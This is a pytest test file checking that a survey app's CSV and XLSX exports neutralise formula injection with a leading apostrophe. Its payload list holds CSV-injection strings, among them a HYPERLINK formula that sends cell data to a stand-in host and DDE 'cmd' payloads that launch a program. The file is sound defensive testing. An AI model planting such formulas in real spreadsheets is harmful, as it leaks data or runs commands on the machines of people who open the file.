"""No export carries a live formula ("CSV injection"): a citizen's comment, a unit's or a
campaign's name that starts like a formula arrives in the CSV and in every sheet of the
XLSX as text with a leading apostrophe, and numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from survey_app.extensions import db
from survey_app.services.data.spreadsheet import neutralise
from survey_app.services.qr import tokens

# The outside probe's cases: each starts with = + - @ TAB or CR, some after whitespace.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n-1+1",
    "＝1+1",  # the full-width equals sign, which Excel also takes for a formula
]
FORMULA_START = tuple("=+-@＝＋－＠")


def live(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text.startswith(("\t", "\r")) or text.lstrip().startswith(FORMULA_START)


@pytest.fixture
def hostile(place, sipas, h):
    """The payloads as ten comments at ward p2's counter, and as the names of the counter,
    of ward p2 and of the counter's campaign."""
    keys = h.sipas_keys()
    for i, text in enumerate(PAYLOADS):
        h.submit(place.p2_point, [(k, 4, None) for k in keys] + [("comment", None, text)],
                 datetime(2026, 5, 1 + i, 3, tzinfo=timezone.utc))
    place.p2_point.name_vi = PAYLOADS[1]
    place.p2.name_vi = PAYLOADS[4]
    h.campaign_of(place.p2_point, "sipas").name = PAYLOADS[0]
    db.session.commit()
    return PAYLOADS


def export(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.data


def test_every_export_route_is_covered(demo_app):
    """A new spreadsheet route must join the tests below."""
    found = {rule.endpoint for rule in demo_app.url_map.iter_rules()
             if rule.rule.endswith((".csv", ".xlsx")) or rule.endpoint == "admin.campaign_codes"}
    assert found == {"reports.export_csv", "reports.export_xlsx", "admin.campaign_codes"}


def test_the_csv_export_has_no_live_formula(place, hostile, login, h):
    data = export(login("demo-manager"), f"/reports/{place.p2.id}/export.csv?{h.qs()}")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if live(c)] == []
    header = rows[0]
    comments = [row[header.index("comment")] for row in rows[1:]]
    assert {"'" + p for p in PAYLOADS} <= set(comments), "the text is kept, behind an apostrophe"
    assert "'" + PAYLOADS[1] in [row[header.index("unit_name")] for row in rows[1:]]
    assert "'" + PAYLOADS[0] in [row[header.index("campaign")] for row in rows[1:]]
    assert all(row[0].isdigit() for row in rows[1:]), "response ids stay plain numbers"


def test_the_xlsx_export_has_no_formula_cell_in_any_sheet(place, hostile, login, h):
    data = export(login("demo-manager"), f"/reports/{place.p2.id}/export.xlsx?{h.qs()}")
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not live(cell.value), (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    # XML reads a carriage return back as a line feed; the apostrophe stays in front.
    expected = {("'" + p).replace("\r", "\n") for p in PAYLOADS}
    assert expected <= {t.replace("\r", "\n") for t in texts}
    responses = wb.worksheets[0]
    header = [c.value for c in responses[1]]
    ids = [row[header.index("response_id")] for row in responses.iter_rows(min_row=2, values_only=True)]
    assert ids and all(isinstance(i, int) for i in ids), "numbers stay numbers"
    summary = [row for row in wb.worksheets[2].iter_rows(values_only=True) if row]
    assert ["'" + PAYLOADS[4]] == [row[1] for row in summary if row[0] == "Đơn vị"], summary[:3]


def test_the_codes_csv_goes_through_the_same_writer():
    # (Its lines end in LF alone, so a bare CR would split a row; codes never hold one.)
    text = tokens.codes_csv([p for p in PAYLOADS if "\r" not in p], "https://hailong.example.gov.vn")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if live(c)] == []
    assert "'" + PAYLOADS[0] in cells


@pytest.mark.parametrize("value", [0, -3, 2.5, None, True, "", "Cán bộ rất nhiệt tình", "a=b", "1-2", "'quoted"])
def test_harmless_values_pass_unchanged(value):
    assert neutralise(value) == value
